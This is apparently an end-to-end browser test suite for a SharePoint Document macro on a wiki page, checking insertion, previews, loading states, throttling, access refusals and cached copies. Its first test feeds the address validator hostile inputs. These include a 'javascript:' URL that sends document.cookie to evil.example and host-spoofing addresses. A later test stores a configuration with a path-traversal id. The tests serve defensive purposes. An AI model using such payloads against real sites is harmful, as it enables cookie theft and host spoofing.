import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Request } from 'playwright-core';
import { launchChromium, openRecorded } from '../support/browser';
import { startTestHost, type TestHost } from '../support/host';
import { connectInNewTab as signInInNewTab } from '../support/microsoft';

const PAGE = '/wiki/spaces/DEMO/pages/65601';
const PUBLIC_PAGE = '/wiki/spaces/PUBSPACE/pages/65602'; // open to anonymous visitors
// Alice alone may read this file (dev/fixtures/demo-tenant.json): Bob gets a trimmed 404, Gina (guest) a 403 on the site.
const FILE_URL = 'https://contoso.sharepoint.com/sites/phoenix/Shared Documents/Specs/Vendor contract.pdf';
const FILE_NAME = 'Vendor contract.pdf';
// The page stores ids only: a viewer Graph never showed the file to reads no name.
const NO_ACCESS = 'You don’t have access to this document in SharePoint';

describe('SharePoint Document macro (Chromium)', () => {
  let host: TestHost;
  let browser: Browser;
  const contexts: BrowserContext[] = [];

  /** A fresh browser profile whose every request is recorded (see openRecorded). */
  async function visit(user: string, path = PAGE) {
    const opened = await openRecorded(browser, `${host.origin}${path}${path.includes('?') ? '&' : '?'}as=${user}`);
    contexts.push(opened.context);
    return { ...opened, macro: opened.page.frameLocator('iframe[title="SharePoint Document"]') };
  }
  const graphCalls = (requests: Request[]) => requests.filter((r) => new URL(r.url()).pathname.startsWith('/graph/'));

  beforeAll(async () => {
    host = await startTestHost();
    browser = await launchChromium();
  });
  afterAll(async () => {
    for (const c of contexts) await c.close().catch(() => {});
    await browser?.close();
    await host?.stop();
  });

  it('an editor inserts the macro, connects in the dialog, is refused hostile addresses that are never requested, then picks a file', async () => {
    const { page, requests } = await visit('alice', `${PAGE}?mode=edit`);
    await page.getByRole('button', { name: 'Insert SharePoint Document' }).click();
    const settings = page.frameLocator('iframe[title="SharePoint Document settings"]');
    await signInInNewTab(page, settings, 'alice@contoso.com');
    await settings.getByText('Signed in as Alice Adams').waitFor();

    const address = settings.getByLabel('SharePoint file address or sharing link');
    const graphBefore = graphCalls(requests).length;
    const hostile: Array<[string, string]> = [
      ['http://contoso.sharepoint.com/sites/phoenix/Shared Documents/Project charter.docx', 'Only secure addresses (https://) can be used.'],
      ['https://10.0.0.5/sites/phoenix/Shared Documents/Project charter.docx', 'not an IP address'],
      ['https://contoso.sharepoint.com@evil.example/sites/phoenix/Shared Documents/x.docx', 'user name or “@” before the site name'],
      ['https://evil.example/sites/phoenix/Shared Documents/x.docx', '“evil.example” is not a SharePoint Online address'],
      ['https://contoso.sharepoint.com.evil.example/sites/phoenix/Shared Documents/x.docx', 'is not a SharePoint Online address'],
      ['javascript:fetch("https://evil.example/"+document.cookie)', '“javascript:” addresses can’t be used'],
    ];
    for (const [url, message] of hostile) {
      await address.fill(url);
      await settings.getByRole('button', { name: 'Find document' }).click();
      await expect.poll(() => settings.getByRole('alert').textContent()).toContain(message);
      expect(await settings.getByRole('button', { name: 'Save' }).isDisabled()).toBe(true);
    }
    expect(requests.map((r) => r.url()).filter((u) => /evil\.example|10\.0\.0\.5/.test(u))).toEqual([]);
    expect(graphCalls(requests).length).toBe(graphBefore);

    // A folder is not a document: said before the card, nothing to save.
    await address.fill('https://contoso.sharepoint.com/sites/phoenix/Shared Documents/Forms/AllItems.aspx');
    await settings.getByRole('button', { name: 'Find document' }).click();
    await expect.poll(() => settings.getByRole('alert').textContent()).toContain('points at a library, not a file');

    await address.fill(FILE_URL);
    await settings.getByRole('button', { name: 'Find document' }).click();
    await settings.getByRole('heading', { name: FILE_NAME }).waitFor();
    expect(await settings.getByRole('article').textContent()).toContain('by Alice Adams');
    await Promise.all([page.waitForEvent('load'), settings.getByRole('button', { name: 'Save' }).click()]);

    // Stored: ids only — the file's name ("Vendor contract.pdf") and address stay in SharePoint.
    const stored = JSON.parse((await page.locator('.macro').first().getAttribute('data-config')) ?? '{}');
    expect(Object.keys(stored).sort()).toEqual(['driveId', 'itemId', 'siteId', 'version']);
    expect(stored).toMatchObject({ version: 2, siteId: expect.stringMatching(/^contoso\.sharepoint\.com,/) });
    expect(JSON.stringify(stored)).not.toMatch(/Vendor|contract|Specs/);
    await page.getByRole('button', { name: 'Edit SharePoint Document' }).waitFor();
  });

  it('the page shows the card and an inline preview, framed as the CSP allows', async () => {
    const { macro, cspErrors, requests } = await visit('alice');
    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
    const card = await macro.getByRole('article').textContent();
    expect(card).toMatch(/bytes|KB/);
    expect(card).toContain('by Alice Adams');
    expect(await macro.getByRole('img', { name: 'PDF' }).count()).toBe(1);
    expect(await macro.getByRole('link', { name: 'Open in SharePoint' }).getAttribute('href')).toBe(
      'https://contoso.sharepoint.com/sites/phoenix/Shared%20Documents/Specs/Vendor%20contract.pdf',
    );

    const preview = macro.frameLocator(`iframe[title="Preview of ${FILE_NAME}"]`);
    await expect.poll(() => preview.locator('h1').textContent()).toBe(FILE_NAME);
    expect(cspErrors).toEqual([]);
    // Card and preview came from Graph with the viewer's token; the frame from SharePoint's own origin.
    const urls = requests.map((r) => new URL(r.url()));
    const { graph, sharePoint } = host.microsoftOrigins;
    expect(urls.some((u) => u.origin === graph && /^\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/]+\/preview$/.test(u.pathname))).toBe(true);
    expect(urls.some((u) => u.origin === sharePoint['contoso.sharepoint.com'] && u.pathname === '/_layouts/15/embed.aspx')).toBe(true);
  });

  it('shows the card before the preview answer, holding the preview’s place with a "Loading preview" placeholder, then the frame without a jump', async () => {
    const { context, page, macro } = await visit('alice', '/');
    // The preview's answer held back until the test lets it go.
    let release: () => void = () => undefined;
    const held = new Promise<void>((r) => { release = r; });
    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/]+\/preview$/, async (route) => {
      if (route.request().method() === 'POST') await held;
      await route.continue();
    });
    await page.goto(`${host.origin}${PAGE}`);
    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
    expect(await macro.getByRole('article').textContent()).toMatch(/bytes|KB/);
    expect(await macro.getByRole('link', { name: 'Open in SharePoint' }).count()).toBe(1);
    const area = macro.locator('.doc-preview-area');
    expect(await area.getAttribute('aria-busy')).toBe('true');
    expect(await macro.getByRole('status').textContent()).toBe('Loading preview…');
    expect(await macro.locator('iframe').count()).toBe(0);
    const before = await area.boundingBox();
    expect(before?.height).toBeGreaterThan(400);

    release();
    const preview = macro.frameLocator(`iframe[title="Preview of ${FILE_NAME}"]`);
    await expect.poll(() => preview.locator('h1').textContent(), { timeout: 15_000 }).toBe(FILE_NAME);
    await expect.poll(() => area.getAttribute('aria-busy')).toBe('false');
    expect(await macro.getByText('Loading preview…').count()).toBe(0);
    // The frame took the held place: same position and height, nothing below the card moved.
    const after = await macro.locator(`iframe[title="Preview of ${FILE_NAME}"]`).boundingBox();
    expect(after).toMatchObject({ y: before?.y, height: before?.height });
  });

  it('while SharePoint answers, shows the card’s shape and says it is loading; the card then takes that place without a jump', async () => {
    const { context, page, macro } = await visit('alice', '/');
    // The item's answer (the card's data) held back until the test lets it go.
    let release: () => void = () => undefined;
    const held = new Promise<void>((r) => { release = r; });
    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/?]+(\?|$)/, async (route) => {
      if (route.request().method() === 'GET') await held;
      await route.continue();
    });
    await page.goto(`${host.origin}${PAGE}`);
    const region = macro.getByRole('region', { name: 'SharePoint document' });
    await expect.poll(() => macro.getByRole('status').first().textContent()).toBe('Loading the document from SharePoint…');
    expect(await region.getAttribute('aria-busy')).toBe('true');
    // No name yet, not even a made-up one for screen readers: the shapes are hidden from them.
    expect(await macro.getByRole('heading').count()).toBe(0);
    expect(await macro.getByText('Document name').isVisible()).toBe(false);
    const box = macro.locator('.doc-card');
    const before = await box.boundingBox();
    const nameBefore = await macro.locator('.doc-name').boundingBox();
    expect(before?.height).toBeGreaterThan(40);

    release();
    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
    expect(await macro.getByText('Loading the document from SharePoint…').count()).toBe(0);
    const after = await macro.getByRole('article').boundingBox();
    const nameAfter = await macro.getByRole('heading', { name: FILE_NAME }).boundingBox();
    expect(after?.y).toBe(before?.y);
    expect(Math.abs((after?.height ?? 0) - (before?.height ?? 0))).toBeLessThanOrEqual(1);
    expect(nameAfter?.y).toBe(nameBefore?.y);
  });

  it('falls back to the thumbnail when SharePoint offers no preview', async () => {
    const { context, page, macro, cspErrors } = await visit('alice', '/');
    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/]+\/preview$/, (route) =>
      route.request().method() !== 'POST'
        ? route.continue()
        : route.fulfill({
            status: 404,
            headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
            body: JSON.stringify({ error: { code: 'itemNotFound', message: 'No preview' } }),
          }),
    );
    await page.goto(`${host.origin}${PAGE}`);
    const thumb = macro.getByRole('img', { name: `Thumbnail of ${FILE_NAME}` });
    await thumb.waitFor();
    await expect.poll(() => thumb.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
    // From the thumbnail service's own origin (<region>-mediap.svc.ms deployed), as Graph's thumbnail URLs point.
    const src = new URL((await thumb.getAttribute('src')) ?? '');
    expect(src.origin + src.pathname).toBe(`${host.microsoftOrigins.media}/transform/thumbnail`);
    expect(await macro.locator('iframe').count()).toBe(0);
    expect(cspErrors).toEqual([]);
  });

  it('shows "Retrying…" while SharePoint throttles, promising no time it cannot read, then the document', async () => {
    const { context, page, macro } = await visit('alice', '/');
    let throttled = 0;
    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/?]+\?/, async (route) => {
      if (route.request().method() !== 'GET' || throttled > 0) return route.continue();
      throttled++;
      await route.fulfill({
        status: 429,
        // Graph's own CORS answer: Retry-After is sent but not exposed, so the page's script cannot read it.
        headers: { 'content-type': 'application/json', 'retry-after': '2', 'access-control-allow-origin': '*', 'access-control-expose-headers': 'ETag, Location, Preference-Applied, Content-Range, request-id, client-request-id' },
        body: JSON.stringify({ error: { code: 'TooManyRequests', message: 'Slow down' } }),
      });
    });
    await page.goto(`${host.origin}${PAGE}`);
    // Read once: the backoff is short, the status is gone again soon after.
    let words: string | null = null;
    // The status and the macro's title, read together: while busy the macro is still "SharePoint document".
    await expect
      .poll(async () => (words = await macro.locator('section.doc-state:has([role="status"])').textContent()), { timeout: 15_000 })
      .toContain('Retrying…');
    expect(words).toMatch(/^SharePoint document/);
    expect(words).toContain('trying again shortly');
    expect(words).not.toMatch(/in \d+ s/);
    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
    expect(throttled).toBe(1);
  });

  it('a page left open gets a new preview URL shortly before the old one expires', async () => {
    const { page, macro } = await visit('alice', '/');
    // The page's timers on a clock the test moves (every frame of the page), the host's clock moved with it.
    await page.clock.install();
    await page.goto(`${host.origin}${PAGE}`);
    const frame = macro.locator(`iframe[title="Preview of ${FILE_NAME}"]`);
    await frame.waitFor();
    const first = (await frame.getAttribute('src')) ?? '';
    expect(first).toContain('/_layouts/15/embed.aspx');

    // The emulator signs a preview for 10 minutes (PREVIEW_LIFETIME_MS); 8 minutes on, the macro asks again.
    await host.control('clock', { advanceSeconds: 8 * 60 + 5 });
    await page.clock.runFor(8 * 60_000 + 5_000);
    await expect.poll(() => frame.getAttribute('src'), { timeout: 15_000 }).not.toBe(first);
    const renewed = (await frame.getAttribute('src')) ?? '';
    await expect.poll(() => macro.frameLocator(`iframe[title="Preview of ${FILE_NAME}"]`).locator('h1').textContent()).toBe(FILE_NAME);
    // The card stayed on screen throughout.
    expect(await macro.getByRole('heading', { name: FILE_NAME }).count()).toBe(1);

    // Past the first URL's lifetime: SharePoint refuses it, the renewed one still opens.
    await host.control('clock', { advanceSeconds: 2 * 60 });
    const old = await fetch(first);
    expect(old.status).toBe(403);
    expect(await old.text()).toContain('expired');
    expect((await fetch(renewed)).status).toBe(200);
  });

  it('a viewer whose SharePoint rights don’t include the file is told so — after connecting', async () => {
    const { page, macro } = await visit('bob');
    await macro.getByRole('button', { name: 'Connect Microsoft 365' }).waitFor();
    expect(await macro.locator('body').textContent()).toContain('Sign in to Microsoft 365 to see this document');
    expect(await macro.locator('body').textContent()).not.toContain(FILE_NAME);
    await signInInNewTab(page, macro, 'bob@contoso.com');
    await expect.poll(() => macro.getByRole('alert').textContent(), { timeout: 15_000 }).toContain(NO_ACCESS);
    expect(await macro.getByRole('alert').textContent()).toContain('or it has been deleted or moved');
    expect(await macro.getByRole('heading', { name: FILE_NAME }).count()).toBe(0);
    expect(await macro.locator('iframe').count()).toBe(0);
  });

  it('a guest from another tenant sees only what the guest may: no access to this site', async () => {
    const { page, macro } = await visit('gina');
    await signInInNewTab(page, macro, 'gina@fabrikam.com');
    await expect.poll(() => macro.getByRole('alert').textContent(), { timeout: 15_000 }).toBe(`${NO_ACCESS}.`);
  });

  it('an anonymous visitor sees no SharePoint Document (the macro declares no unlicensedAccess), and nothing is asked of Microsoft', async () => {
    // The DEMO space is closed to anonymous visitors (they get "Page not found"): the same macro goes on the public page 65602.
    const { page: editor } = await visit('alice');
    const config = JSON.parse((await editor.locator('.macro').first().getAttribute('data-config')) ?? 'null') as Record<string, unknown>;
    const placed = await fetch(`${host.origin}/__host/pages/65602/macros`, { method: 'POST', headers: { 'content-type': 'application/json', cookie: 'forge_local_as=alice' }, body: JSON.stringify({ moduleKey: 'sharepoint-document', localId: 'public-document', config }) });
    expect(placed.status).toBe(200);
    expect(await (await visit('alice', PUBLIC_PAGE)).page.locator('iframe[title="SharePoint Document"]').count()).toBe(1);
    const { page, requests } = await visit('anonymous', PUBLIC_PAGE);
    await page.locator('.page-body').waitFor();
    expect(await page.locator('iframe[title="SharePoint Document"]').count()).toBe(0);
    expect(graphCalls(requests)).toEqual([]);
  });

  it('a reload shows the card this viewer last saw at once, marked as being updated, until the fresh card replaces it; a refusal or a sign-out takes the copy away', async () => {
    // A browser that lets the cross-site macro frame keep sessionStorage (where the token and the copy live).
    const withStorage = await launchChromium({ thirdPartyStorage: true });
    try {
      const context = await withStorage.newContext();
      const page = await context.newPage();
      await page.goto(`${host.origin}${PAGE}?as=alice`);
      const macro = page.frameLocator('iframe[title="SharePoint Document"]');
      await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
      const frame = () => page.frames().find((f) => f.url().includes('/__cdn/sp-document/'));
      const stored = async () => (await frame()?.evaluate(() => Object.keys(sessionStorage).filter((k) => k.startsWith('m365.copy.')).map((k) => sessionStorage.getItem(k) ?? ''))) ?? [];
      await expect.poll(stored).toHaveLength(1);
      expect((await stored())[0]).toContain(FILE_NAME);
      // What the preview showed is not kept: no frame, no image, no SharePoint page address.
      expect((await stored())[0]).not.toMatch(/embed\.aspx|"t":"(iframe|img)"/);

      // The file is renamed in SharePoint, and its fresh answer held back until the test lets it go.
      const ITEM = /\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/?]+(\?|$)/;
      let release: () => void = () => undefined;
      const held = new Promise<void>((r) => { release = r; });
      await context.route(ITEM, async (route) => {
        if (route.request().method() !== 'GET') return route.continue();
        await held;
        const res = await route.fetch();
        await route.fulfill({ response: res, json: { ...((await res.json()) as object), name: 'Vendor contract (signed).pdf' } });
      });
      await page.reload();
      const copy = macro.locator('[data-tab-copy]');
      await copy.getByText(FILE_NAME).waitFor();
      expect(await copy.isVisible()).toBe(true);
      // Shown, not used: inert (no focus, no clicks) and announced as being updated; the view's own root waits hidden.
      expect(await copy.getAttribute('aria-busy')).toBe('true');
      expect(await copy.evaluate((e) => (e as HTMLElement).inert)).toBe(true);
      expect(await macro.locator('#root').isHidden()).toBe(true);
      expect(await copy.locator('iframe, img').count()).toBe(0);
      release();
      await macro.getByRole('heading', { name: 'Vendor contract (signed).pdf' }).waitFor();
      expect(await macro.locator('[data-tab-copy]').count()).toBe(0);
      expect(await macro.getByText(FILE_NAME, { exact: true }).count()).toBe(0);
      await expect.poll(async () => (await stored())[0] ?? '').toContain('Vendor contract (signed).pdf');
      await context.unroute(ITEM);

      // SharePoint now refuses this viewer: the copy gives way to the refusal, and is no longer kept.
      await context.route(ITEM, (route) =>
        route.request().method() === 'GET' ? route.fulfill({ status: 403, json: { error: { code: 'accessDenied', message: 'Access denied.' } } }) : route.continue(),
      );
      await page.reload();
      await expect.poll(() => macro.getByRole('alert').textContent(), { timeout: 15_000 }).toContain(NO_ACCESS);
      expect(await macro.locator('[data-tab-copy]').count()).toBe(0);
      expect(await macro.locator('body').textContent()).not.toContain('Vendor contract');
      await expect.poll(stored).toEqual([]);
      await context.unroute(ITEM);

      // Signing out in the byline takes the copy with the token: the next reload shows nothing of the file.
      await page.reload();
      await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
      await expect.poll(stored).toHaveLength(1);
      await page.getByRole('button', { name: 'Microsoft 365' }).click();
      const byline = page.frameLocator('iframe[title="Microsoft 365"]');
      await byline.getByRole('button', { name: 'Sign out' }).click();
      await macro.getByRole('button', { name: 'Connect Microsoft 365' }).waitFor({ timeout: 5_000 });
      expect(await stored()).toEqual([]);
      await page.reload();
      await macro.getByRole('button', { name: 'Connect Microsoft 365' }).waitFor();
      expect(await macro.locator('body').textContent()).not.toContain('Vendor contract');
      expect(await macro.locator('[data-tab-copy]').count()).toBe(0);
    } finally {
      await withStorage.close();
    }
  });

  it('a malformed stored configuration gets a clear message and no request', async () => {
    const cookie = { 'content-type': 'application/json', cookie: 'forge_local_as=alice' };
    const html = await (await fetch(`${host.origin}${PAGE}`, { headers: cookie })).text();
    for (const [, id] of html.matchAll(/data-local-id="([^"]+)"/g)) {
      await fetch(`${host.origin}/__host/pages/65601/macros/${encodeURIComponent(id ?? '')}`, { method: 'DELETE', headers: cookie });
    }
    const bad = { version: 1, siteId: 'evil.example,3c2f1e0d-7b6a-4958-8f7e-6d5c4b3a2910,0f1e2d3c-4b5a-4697-8887-a6b5c4d3e2f1', driveId: 'b!../../me', itemId: 'x', name: 'x.pdf', webUrl: 'https://evil.example/x.pdf' };
    const saved = await fetch(`${host.origin}/__host/pages/65601/macros`, { method: 'POST', headers: cookie, body: JSON.stringify({ moduleKey: 'sharepoint-document', localId: 'bad-1', config: bad }) });
    expect(saved.ok).toBe(true);

    const { macro, requests } = await visit('alice');
    await expect.poll(() => macro.getByRole('alert').textContent()).toContain('The macro settings are not valid');
    expect(await macro.getByRole('alert').textContent()).toContain('Edit the macro');
    expect(graphCalls(requests)).toEqual([]);
    expect(requests.map((r) => r.url()).filter((u) => u.includes('evil.example'))).toEqual([]);
  });
});
